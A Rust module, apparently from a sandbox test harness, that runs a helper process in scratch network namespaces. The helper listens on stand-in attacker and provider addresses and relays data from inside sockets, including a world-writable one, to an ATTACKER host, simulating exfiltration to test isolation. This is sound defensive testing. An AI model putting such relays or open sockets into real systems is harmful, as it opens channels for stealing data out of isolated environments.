//! Who else is in a scratch world: sinks that take what arrives outside, someone who fetches, and
//! a process beside the roles that passes on what it is told.
//!
//! One forked process with threads; nothing holds it, and it ends with its world.

use std::fs;
use std::io::{self, Read, Write};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::os::fd::AsFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{self as unix, UnixDatagram, UnixListener};
use std::path::PathBuf;
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use nix::sys::wait::waitpid;
use nix::unistd::{Pid, getpid};

use super::ground::{ATTACKER, ATTACKER_V6, INSIDE, NAMESERVER, PROVIDER, PROVIDER_V6};
use super::technique::{Aid, Aim, relay_name, relay_path};
use super::world::{Namespace, World};
use crate::sys::channel::Channel;
use crate::sys::clone::{Clone, Network, into_cgroup};
use crate::sys::{fds, privilege};

/// The process; ended when dropped.
pub(super) struct Neighbours {
    pid: Pid,
    orders: Channel,
}

impl Neighbours {
    /// Starts it, and waits until every sink listens.
    pub(super) fn start(world: &World) -> io::Result<Self> {
        let parent = getpid();
        let (ours, theirs) = Channel::pair()?;
        match into_cgroup(None::<&fs::File>, Network::Inherit)? {
            Clone::Parent { pid, .. } => {
                drop(theirs);
                let neighbours = Self { pid, orders: ours };
                neighbours.answered()?;
                Ok(neighbours)
            }
            Clone::Child => {
                drop(ours);
                let lived = live(world, &theirs, parent);
                std::process::exit(i32::from(lived.is_err()));
            }
        }
    }

    /// Has them do what an attempt needs, until it needs it no more.
    pub(super) fn aid(&self, aid: Aid, aim: &Aim) -> io::Result<()> {
        let order = match aid {
            Aid::None | Aid::Given(_) => return Ok(()),
            Aid::Fetch => "fetch -".to_owned(),
            Aid::Relay => format!("relay {}", aim.token),
            Aid::PathRelay => format!("path {}", relay_path(&aim.scratch, &aim.token).display()),
        };
        self.orders.send(order.as_bytes(), None)?;
        self.answered()
    }

    fn answered(&self) -> io::Result<()> {
        match self.orders.receive(&mut [0; 16])? {
            (0, _) => Err(io::Error::other("the neighbours' process has ended")),
            _ => Ok(()),
        }
    }
}

impl Drop for Neighbours {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(self.pid, nix::sys::signal::Signal::SIGKILL);
        let _ = waitpid(self.pid, None);
    }
}

fn live(world: &World, orders: &Channel, parent: Pid) -> io::Result<()> {
    privilege::die_with(parent)?;
    privilege::set_process_name("prxy-neighbours")?;
    let spaces = [world.inside.by_fd(), world.outside.by_fd()];
    fds::close_all_but(&[orders.as_fd(), spaces[0], spaces[1]])?;
    let inside = Arc::new(Namespace::again(spaces[0])?);
    let outside = Arc::new(Namespace::again(spaces[1])?);
    outside.enter()?;
    for (ip, port) in SINKS {
        sink(SocketAddr::new(*ip, *port))?;
    }
    orders.send(b"ready", None)?;
    let mut buffer = [0; 512];
    loop {
        let (length, _) = orders.receive(&mut buffer)?;
        let text = String::from_utf8_lossy(&buffer[..length]).into_owned();
        match text.split_once(' ') {
            Some(("fetch", _)) => fetch(outside.clone()),
            Some(("relay", token)) => relay(&inside, &outside, token)?,
            Some(("path", path)) => path_relay(inside.clone(), path.into())?,
            _ => return Ok(()),
        }
        orders.send(b"ready", None)?;
    }
}

/// Accepts and reads to the end, for ever.
#[expect(clippy::disallowed_methods, reason = "the other side of the wire listens")]
fn sink(at: SocketAddr) -> io::Result<()> {
    let listener = TcpListener::bind(at)?;
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            thread::spawn(move || {
                drop(stream.set_read_timeout(Some(PATIENCE)));
                drop(io::copy(&mut &stream, &mut io::sink()));
            });
        }
    });
    Ok(())
}

/// Connects to the one port inside as soon as somebody listens there, and reads.
fn fetch(outside: Arc<Namespace>) {
    in_thread(outside, || {
        let deadline = Instant::now() + PATIENCE;
        while Instant::now() < deadline {
            if let Some(mut stream) = dial(INSIDE, super::technique::LISTEN_PORT) {
                drop(stream.set_read_timeout(Some(PATIENCE)));
                drop(stream.read(&mut [0; 64]));
                return;
            }
            thread::sleep(Duration::from_millis(5));
        }
    });
}

/// Passes on what is said on an abstract socket inside.
fn relay(inside: &Arc<Namespace>, outside: &Namespace, token: &str) -> io::Result<()> {
    let address = unix::SocketAddr::from_abstract_name(relay_name(token))?;
    inside.enter()?;
    let listener = UnixListener::bind_addr(&address);
    outside.enter()?;
    let listener = listener?;
    in_thread(inside.clone(), move || {
        let Ok((mut from, _)) = listener.accept() else { return };
        let mut buffer = [0; 256];
        if let Ok(length @ 1..) = from.read(&mut buffer) {
            pass_on(&buffer[..length]);
        }
        drop(from.shutdown(Shutdown::Both));
    });
    Ok(())
}

/// Passes on a datagram sent to a path that everyone may write to.
fn path_relay(inside: Arc<Namespace>, path: PathBuf) -> io::Result<()> {
    let listener = UnixDatagram::bind(&path)?;
    fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o666))?;
    listener.set_read_timeout(Some(PATIENCE))?;
    in_thread(inside, move || {
        let mut buffer = [0; 256];
        if let Ok(length @ 1..) = listener.recv(&mut buffer) {
            pass_on(&buffer[..length]);
        }
        drop(fs::remove_file(&path));
    });
    Ok(())
}

fn pass_on(bytes: &[u8]) {
    if let Some(mut to) = dial(ATTACKER, 443) {
        drop(to.write_all(bytes));
    }
}

#[expect(clippy::disallowed_methods, reason = "a neighbour is held by nothing")]
fn dial(ip: IpAddr, port: u16) -> Option<TcpStream> {
    TcpStream::connect_timeout(&SocketAddr::new(ip, port), Duration::from_millis(200)).ok()
}

fn in_thread(namespace: Arc<Namespace>, work: impl FnOnce() + Send + 'static) {
    thread::spawn(move || {
        if namespace.enter().is_ok() {
            work();
        }
    });
}

/// Where something listens outside.
const SINKS: &[(IpAddr, u16)] = &[
    (ATTACKER, 443),
    (ATTACKER, 80),
    (ATTACKER, 53),
    (ATTACKER_V6, 443),
    (PROVIDER, 443),
    (PROVIDER, 8443),
    (PROVIDER_V6, 443),
    (NAMESERVER, 53),
];

/// Longer than any attempt.
const PATIENCE: Duration = Duration::from_secs(3);
